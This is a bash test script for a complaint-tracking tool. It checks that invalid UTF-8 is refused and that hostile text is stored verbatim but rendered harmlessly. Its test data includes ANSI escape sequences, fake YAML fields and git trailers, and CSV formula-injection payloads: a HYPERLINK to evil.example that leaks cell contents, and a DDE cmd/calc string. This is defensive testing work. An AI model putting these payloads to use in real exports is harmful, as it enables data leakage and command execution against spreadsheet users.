#!/bin/bash
test_description='hostile free text: refused when it cannot round-trip, else stored verbatim and made harmless where shown'
. "$(dirname "$0")/test-lib.sh"

# bash: $'...' for the bytes below

new_store store

ESC=$'\033'
SURROGATE=$'\xed\xa0\x80'	# U+D800, a UTF-16 surrogate encoded as UTF-8
TOOBIG=$'\xf4\x90\x80\x80'	# U+110000, above the last code point
NEW=(--channel phone --category service)

test_expect_success 'a surrogate or a code point above U+10FFFF in --summary: exit 2, nothing written' '
	test_refused 2 --now 2026-11-02T09:00 new --customer x "${NEW[@]}" --summary "a${SURROGATE}b" &&
	test_grep "summary.*UTF-8" err.refused &&
	test_refused 2 --now 2026-11-02T09:00 new --customer x "${NEW[@]}" --summary "a${TOOBIG}b" &&
	test_refused 2 --now 2026-11-02T09:00 new --customer "x${SURROGATE}" "${NEW[@]}" --summary s &&
	test_refused 2 --now 2026-11-02T09:00 new --customer x "${NEW[@]}" --summary s \
		--description "line 1
${TOOBIG}" &&
	test_refused 2 --now 2026-11-02T09:00 --actor "clerk${SURROGATE}" new --customer x "${NEW[@]}" --summary s
'

test_expect_success 'the same in event text, a note, a reason: exit 2, nothing written' '
	ID=$(complaint --now 2026-11-02T09:00 new --customer 王先生 "${NEW[@]}" --summary 上菜慢) &&
	test_refused 2 --now 2026-11-02T09:05 note $ID "x${SURROGATE}" &&
	test_refused 2 --now 2026-11-02T09:05 assign $ID --department "餐饮部${TOOBIG}" &&
	test_refused 2 --now 2026-11-02T09:05 reclassify $ID general --reason "r${SURROGATE}"
'

test_expect_success 'in a --from form: refused (the file is not valid UTF-8), nothing written' '
	printf "customer: x\nchannel: phone\ncategory: service\nsummary: \"a%sb\"\n" "$SURROGATE" >form-bad.yaml &&
	store_snapshot &&
	test_must_fail complaint --now 2026-11-02T09:00 new --from form-bad.yaml >out 2>err &&
	test_error_line err &&
	test_grep "form-bad.yaml.*UTF-8" err &&
	store_unchanged
'

# The hostile texts: stored byte for byte, shown harmlessly.
FAKE_FIELDS=$'ok\nstatus: closed\nseverity: critical'
FAKE_TRAILERS=$'refund\n\nActor: 陈总\nComplaint-Id: C-20000101-FAKE\nSigned-off-by: 陈总 <ceo@example.com>'
ANSI=$'\033[31mred\033[0m \033]0;title\007 \033[2J'
FORMULA='=HYPERLINK("http://evil.example/?"&A1,"click")'

test_expect_success 'hostile texts are accepted (they are valid text)' '
	A=$(complaint --now 2026-11-02T10:00 new --customer "$ANSI" "${NEW[@]}" --summary "$FAKE_FIELDS" \
		--description "$FAKE_TRAILERS") &&
	B=$(complaint --now 2026-11-02T10:01 new --customer "$FORMULA" "${NEW[@]}" --summary "$FAKE_TRAILERS") &&
	C=$(complaint --now 2026-11-02T10:02 new --customer "+SUM(1,2)" "${NEW[@]}" --summary "$ANSI") &&
	D=$(complaint --now 2026-11-02T10:03 new --customer "-2+3" "${NEW[@]}" --summary "@cmd|'"'"'/c calc'"'"'!A0") &&
	E=$(complaint --now 2026-11-02T10:04 new --customer "$(printf "\tx")" "${NEW[@]}" --summary "$FORMULA") &&
	FA=$(case_path $A) && FB=$(case_path $B) && FC=$(case_path $C) && FD=$(case_path $D) && FE=$(case_path $E)
'

test_expect_success 'stored verbatim: PyYAML reads every text back byte for byte' '
	test "$(yaml_get "$FA" summary)" = "$FAKE_FIELDS" &&
	test "$(yaml_get "$FA" description)" = "$FAKE_TRAILERS" &&
	test "$(yaml_get "$FA" customer name)" = "$ANSI" &&
	test "$(yaml_get "$FB" customer name)" = "$FORMULA" &&
	test "$(yaml_get "$FB" summary)" = "$FAKE_TRAILERS" &&
	test "$(yaml_get "$FC" summary)" = "$ANSI" &&
	test "$(yaml_get "$FE" summary)" = "$FORMULA" &&
	test "$(yaml_get "$FE" customer name)" = "$(printf "\tx")"
'

test_expect_success 'the fake fields are text, not fields: status and severity come from the events' '
	test "$(yaml_get "$FA" status)" = new &&
	test "$(yaml_get "$FA" severity)" = minor &&
	! grep -q "^status: closed" "$FA" &&
	complaint check >out 2>err
'

test_expect_success 'show --format json gives the texts back exactly' '
	complaint show $A --format json >out.json &&
	test "$(jq -r .summary out.json)" = "$FAKE_FIELDS" &&
	test "$(jq -r .customer.name out.json)" = "$ANSI" &&
	! grep -q "$ESC" out.json
'

test_expect_success 'no raw ESC in show, list, log, check output (terminal text)' '
	for id in $A $B $C; do
		complaint show $id >out 2>err &&
		! grep -q "$ESC" out err &&
		complaint log $id >out 2>err &&
		! grep -q "$ESC" out err || return 1
	done &&
	complaint --now 2026-11-03T00:00 list >out 2>err &&
	! grep -q "$ESC" out err &&
	complaint --now 2026-11-03T00:00 list --format tsv >out 2>err &&
	! grep -q "$ESC" out err &&
	complaint --now 2026-11-03T00:00 list --format json >out 2>err &&
	! grep -q "$ESC" out err &&
	complaint show $C >out &&
	test_grep -F "^[[31mred" out
'

test_expect_success 'commit subjects are one line; the fake trailers are not trailers' '
	for id in $A $B; do
		git log -1 --format=%B $(git log --format=%H --grep="^new $id" -1) >msg.tmp &&
		head -1 msg.tmp >subject.tmp &&
		test_grep "^new $id: " subject.tmp &&
		git log -1 --format="%(trailers)" $(git log --format=%H --grep="^new $id" -1) >trailers.tmp &&
		printf "Complaint-Id: %s\nAction: new\nActor: tester\n\n" $id >expect.tmp &&
		test_cmp expect.tmp trailers.tmp &&
		git log -1 --format="%(trailers:key=Actor,valueonly)" $(git log --format=%H --grep="^new $id" -1) >actor.tmp &&
		echo tester >expect.tmp && echo >>expect.tmp &&
		test_cmp expect.tmp actor.tmp || return 1
	done &&
	git log --format=%s >subjects.tmp &&
	! grep -q "$ESC" subjects.tmp
'

test_expect_success 'a note whose text fakes trailers: the commit keeps one subject line and our trailers' '
	complaint --now 2026-11-02T11:00 note $A "$FAKE_TRAILERS" &&
	git log -1 --format="%(trailers:key=Actor,valueonly)" >actor.tmp &&
	printf "tester\n\n" >expect.tmp &&
	test_cmp expect.tmp actor.tmp &&
	git log -1 --format="%(trailers:key=Complaint-Id,valueonly)" >cid.tmp &&
	printf "%s\n\n" $A >expect.tmp &&
	test_cmp expect.tmp cid.tmp &&
	test "$(git log -1 --format=%B | grep -c .)" -le 5
'

test_expect_success 'CSV cells that start a formula are defused with a quote' '
	complaint --now 2026-11-03T00:00 list --format csv >out.csv 2>err &&
	python3 -c "
import csv, sys
rows = list(csv.reader(open(\"out.csv\", encoding=\"utf-8\", newline=\"\")))
bad = [c for r in rows[1:] for c in r if c[:1] in (\"=\", \"+\", \"-\", \"@\", \"\\t\", \"\\r\")]
if bad:
    sys.exit(\"formula cells: %r\" % bad)
cells = [c for r in rows for c in r]
assert any(c.startswith(\"\x27=HYPERLINK\") for c in cells), cells
" &&
	complaint --now 2026-12-01T00:00 score --month 2026-11 --format csv >score.csv 2>err &&
	complaint --now 2026-12-01T00:00 report --month 2026-11 --format csv >report.csv 2>err &&
	python3 -c "
import csv, sys
for f in (\"score.csv\", \"report.csv\"):
    for r in csv.reader(open(f, encoding=\"utf-8\", newline=\"\")):
        for c in r:
            if c[:1] in (\"=\", \"+\", \"@\", \"\\t\", \"\\r\") or (c[:1] == \"-\" and not c[1:].replace(\".\", \"\").isdigit()):
                sys.exit(\"%s: formula cell %r\" % (f, c))
"
'

test_done
